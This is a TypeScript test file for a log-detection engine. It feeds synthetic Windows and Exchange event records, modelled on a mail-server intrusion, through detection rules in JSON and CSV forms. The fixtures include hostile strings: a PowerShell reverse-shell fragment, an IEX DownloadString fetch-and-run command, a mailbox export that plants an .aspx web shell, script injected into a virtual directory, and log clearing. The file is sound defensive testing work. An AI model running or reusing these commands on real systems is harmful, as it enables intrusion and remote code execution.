import { describe, expect, it } from 'vitest'
import { utf8 } from '../../src/event/bytes.ts'
import { compileRules, builtInTexts } from '../../src/detections/compile/rule-set.ts'
import { Hunter } from '../../src/detections/hunt/hunt.ts'
import { fieldOf } from '../../src/formats/registry.ts'
import { EventFields } from '../../src/formats/kit/event-log/event-fields.ts'
import { fieldsOfMessage } from '../../src/formats/kit/event-log/message-form.ts'
import json from '../../src/formats/windows-event-json/index.ts'
import table from '../../src/formats/windows-event-table/index.ts'
import type { Format } from '../../src/formats/format.ts'
import { readIn } from './format-reading.ts'

/** One event: what the event log keeps, and the text that it shows. */
interface Told {
  readonly title: string
  readonly id: number
  readonly level?: string
  readonly channel: string
  readonly provider: string
  readonly data: Readonly<Record<string, string | readonly string[]>>
  readonly message: string
}

const SECURITY = { channel: 'Security', provider: 'Microsoft-Windows-Security-Auditing' }
const SYSMON = { channel: 'Microsoft-Windows-Sysmon/Operational', provider: 'Microsoft-Windows-Sysmon' }
const CMDLETS = { channel: 'MSExchange Management', provider: 'MSExchange CmdletLogs' }
const SCRIPT =
  '-ExternalUrl "http://f/<script language=""JScript"" runat=""server"">" -Identity "OAB (Default Web Site)"'
const URL = 'https://nord7.brook.example:444/ecp/default.aspx?x=]:444/ecp/k2.js'
const PAGE = 'https://post.brook.example/owa/auth/logoff.aspx'
const INTEGRITY = 'Viewstate verification failed. Reason: The viewstate supplied failed integrity check.'
const TASK = '<Task>\r\n  <Exec>\r\n    <Command>cmd.exe</Command>\r\n  </Exec>\r\n</Task>'
const BLOCK = "$n = New-Object System.Net.Sockets.TCPClient('203.0.113.72',443);\r\n$s = $n.GetStream()"
const HOST =
  "HostApplication=powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"

const EVENTS: readonly Told[] = [
  {
    title: 'a virtual directory that is given script text',
    ...CMDLETS,
    id: 1,
    data: { Data: ['Set-OabVirtualDirectory', SCRIPT] },
    message: `Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters ${SCRIPT}.`,
  },
  {
    title: 'a virtual directory that refuses script text',
    ...CMDLETS,
    id: 6,
    level: 'Error',
    data: { Data: ['Set-OabVirtualDirectory', SCRIPT] },
    message: `Cmdlet failed. Cmdlet Set-OabVirtualDirectory, parameters ${SCRIPT}.`,
  },
  {
    title: 'a mailbox that is exported as a page',
    ...CMDLETS,
    id: 1,
    data: { Data: ['New-MailboxExportRequest', '-FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\k.aspx"'] },
    message:
      'Cmdlet suceeded. Cmdlet New-MailboxExportRequest, parameters -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\k.aspx".',
  },
  {
    title: 'an error of the control panel',
    channel: 'Application',
    provider: 'MSExchange Control Panel',
    id: 4,
    level: 'Error',
    data: { Data: ['brook.example/Users/post7', URL, 'System.Web.HttpUnhandledException (0x80004005)'] },
    message: `Current user: 'brook.example/Users/post7'\r\nRequest for URL '${URL}' failed with the following error:\r\nSystem.Web.HttpUnhandledException (0x80004005)`,
  },
  {
    title: 'a forged page state',
    channel: 'Application',
    provider: 'ASP.NET 4.0.30319.0',
    id: 1316,
    level: 'Information',
    data: { Data: ['4009', INTEGRITY, PAGE, '198.51.100.77'] },
    message: `Event code: 4009 \r\nEvent message: ${INTEGRITY} \r\n \r\nRequest information: \r\n    Request URL: ${PAGE} \r\n    User host address: 198.51.100.77 `,
  },
  {
    title: 'an error of the voice mail service',
    channel: 'Application',
    provider: 'MSExchange Unified Messaging',
    id: 1438,
    level: 'Error',
    data: { Data: ['System.InvalidCastException: Unable to cast'] },
    message: 'The call failed: System.InvalidCastException: Unable to cast',
  },
  {
    title: 'a service in an odd place',
    channel: 'System',
    provider: 'Service Control Manager',
    id: 7045,
    data: { ServiceName: 'k7', ImagePath: 'C:\\Windows\\Temp\\k7.exe', AccountName: 'LocalSystem' },
    message:
      'A service was installed in the system.\r\n\r\nService Name:  k7\r\nService File Name:  C:\\Windows\\Temp\\k7.exe\r\nService Account:  LocalSystem',
  },
  {
    title: 'a service in an odd place, in German',
    channel: 'System',
    provider: 'Service Control Manager',
    id: 7045,
    data: { ServiceName: 'k7', ImagePath: 'C:\\Windows\\Temp\\k7.exe' },
    message:
      'Im System wurde ein Dienst installiert.\r\n\r\nDienstname:  k7\r\nDienstdateiname:  C:\\Windows\\Temp\\k7.exe',
  },
  {
    title: 'a program that the web server starts',
    ...SYSMON,
    id: 1,
    data: {
      UtcTime: '2022-05-03 06:40:10.271',
      Image: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'cmd.exe /c whoami',
      ParentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
      ParentCommandLine: 'w3wp.exe -ap "MSExchangeOWAAppPool"',
    },
    message:
      'Process Create:\r\nUtcTime: 2022-05-03 06:40:10.271\r\nImage: C:\\Windows\\System32\\cmd.exe\r\nCommandLine: cmd.exe /c whoami\r\nParentImage: C:\\Windows\\System32\\inetsrv\\w3wp.exe\r\nParentCommandLine: w3wp.exe -ap "MSExchangeOWAAppPool"',
  },
  ...[
    'A new process has been created.\r\n\r\nCreator Subject:\r\n\tAccount Name:\t\tNORD7$\r\n\r\nProcess Information:\r\n\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe\r\n\tCreator Process Name:\tC:\\Windows\\System32\\inetsrv\\w3wp.exe\r\n\tProcess Command Line:\tcmd.exe /c whoami',
    'Ein neuer Prozess wurde erstellt.\r\n\r\nAntragsteller:\r\n\tKontoname:\t\tNORD7$\r\n\r\nProzessinformationen:\r\n\tNeuer Prozessname:\tC:\\Windows\\System32\\cmd.exe\r\n\tErstellerprozessname:\tC:\\Windows\\System32\\inetsrv\\w3wp.exe\r\n\tProzessbefehlszeile:\tcmd.exe /c whoami',
  ].map((message, i) => ({
    title: `the same in the Security log, text ${i + 1}`,
    ...SECURITY,
    id: 4688,
    data: {
      SubjectUserName: 'NORD7$',
      NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
      ParentProcessName: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
      CommandLine: 'cmd.exe /c whoami',
    },
    message,
  })),
  {
    title: 'a task with a command',
    ...SECURITY,
    id: 4698,
    data: { SubjectUserName: 'NORD7$', TaskName: '\\VSPerfMon', TaskContent: TASK },
    message: `A scheduled task was created.\r\n\r\nSubject:\r\n\tAccount Name:\t\tNORD7$\r\n\r\nTask Information:\r\n\tTask Name: \t\t\\VSPerfMon\r\n\tTask Content: \t\t${TASK}`,
  },
  {
    title: 'a web shell that was found',
    channel: 'Microsoft-Windows-Windows Defender/Operational',
    provider: 'Microsoft-Windows-Windows Defender',
    id: 1116,
    level: 'Warning',
    data: { 'Threat Name': 'Backdoor:ASP/Chopper.F!dha', Path: 'file:_C:\\inetpub\\wwwroot\\k.aspx' },
    message:
      'Microsoft Defender Antivirus has detected malware.\r\n \tName: Backdoor:ASP/Chopper.F!dha\r\n \tPath: file:_C:\\inetpub\\wwwroot\\k.aspx',
  },
  {
    title: 'a script block',
    channel: 'Microsoft-Windows-PowerShell/Operational',
    provider: 'Microsoft-Windows-PowerShell',
    id: 4104,
    data: { MessageNumber: '1', MessageTotal: '1', ScriptBlockText: BLOCK },
    message: `Creating Scriptblock text (1 of 1):\r\n${BLOCK}\r\n\r\nScriptBlock ID: 0d1a1a34-0000-4000-8000-000000000001\r\nPath: `,
  },
  {
    title: 'PowerShell that begins with a command',
    channel: 'Windows PowerShell',
    provider: 'PowerShell',
    id: 400,
    data: { Data: ['Available', 'None', `\tNewEngineState=Available\r\n\t${HOST}\r\n`] },
    message: `Engine state is changed from None to Available. \r\n\r\nDetails: \r\n\tNewEngineState=Available\r\n\t${HOST}\r\n`,
  },
  {
    title: 'a Security log that was cleared',
    channel: 'Security',
    provider: 'Microsoft-Windows-Eventlog',
    id: 1102,
    data: { SubjectUserName: 'post7' },
    message: 'The audit log was cleared.\r\nSubject:\r\n\tAccount Name:\tpost7',
  },
  {
    title: 'another log that was cleared',
    channel: 'System',
    provider: 'Microsoft-Windows-Eventlog',
    id: 104,
    data: { LogFileCleared_Channel: 'MSExchange Management' },
    message: 'The MSExchange Management log file was cleared.',
  },
]

const COMPUTER = 'nord7.brook.example'
const TIME = '2022-05-03T06:40:10.271Z'
const hunter = new Hunter(compileRules(builtInTexts()), fieldOf)

/** The names of the rules that the events of a source hit. */
function hits(format: Format, text: string): string[] {
  const bytes = utf8(text)
  const { blocks, events } = readIn(format, bytes, () => 1000)
  expect(events).toHaveLength(1)
  const found = new Set<string>()
  for (const block of blocks)
    for (const { rule } of hunter.hunt(block, { sourceId: 0, hostOf: () => null, fieldOf }))
      found.add(rule.name)
  return [...found].sort()
}

function inJson({ id, level, channel, provider }: Told, more: object): string {
  const known = {
    EventID: id,
    Channel: channel,
    SourceName: provider,
    Hostname: COMPUTER,
    '@timestamp': TIME,
  }
  return JSON.stringify({ ...known, Level: level ?? 'Information', ...more })
}

function dumped({ id, level, channel, provider, data }: Told): string {
  const system = {
    Provider: { '#attributes': { Name: provider } },
    EventID: id,
    Level: { Error: 2, Warning: 3 }[level ?? ''] ?? 4,
    TimeCreated: { '#attributes': { SystemTime: TIME } },
    Channel: channel,
    Computer: COMPUTER,
  }
  return JSON.stringify({ Event: { System: system, EventData: data } })
}

function inTable({ id, level, channel, provider, message }: Told): string {
  const cells = [TIME, id, level ?? 'Information', provider, channel, COMPUTER, '100', message]
  const row = cells.map((cell) => `"${String(cell).replaceAll('"', '""')}"`).join(',')
  return `"TimeCreated","Id","LevelDisplayName","ProviderName","LogName","MachineName","RecordId","Message"\r\n${row}\r\n`
}

describe('events of which only the message was kept', () => {
  it.each(EVENTS)('hit the same rules: $title', (told) => {
    const wanted = hits(json, dumped(told))
    expect(wanted).not.toEqual([])
    expect(hits(json, inJson(told, told.data)), 'flat').toEqual(wanted)
    expect(hits(json, inJson(told, { Message: told.message })), 'JSON').toEqual(wanted)
    expect(hits(table, inTable(told)), 'CSV').toEqual(wanted)
  })

  it('never take the place of a value that is there', () => {
    const [, , , , , , service] = EVENTS
    const kept = { Message: service!.message, ServiceName: 'own', AccountName: 'own' }
    const { events } = readIn(json, utf8(inJson(service!, kept)), () => 1000)
    expect(events[0]!.fields).toMatchObject({ ServiceName: 'own', AccountName: 'own' })
    expect(events[0]!.fields['ImagePath']).toBe('C:\\Windows\\Temp\\k7.exe')
  })

  it('are taken apart to their end, whatever they hold', () => {
    let taken = 0
    for (const { provider, channel, id } of EVENTS)
      for (const piece of [' ', ':', '\t: ', "'", '"', '\n', 'A-', '(1 ', 'Context:\n']) {
        const fields = new EventFields()
        const message = piece.repeat(200_000)
        const event = { EventID: String(id), Channel: channel, Provider_Name: provider, Message: message }
        for (const [name, value] of Object.entries(event)) fields.put(name, value)
        fieldsOfMessage(fields)
        taken++
      }
    expect(taken).toBe(EVENTS.length * 9)
  })
})
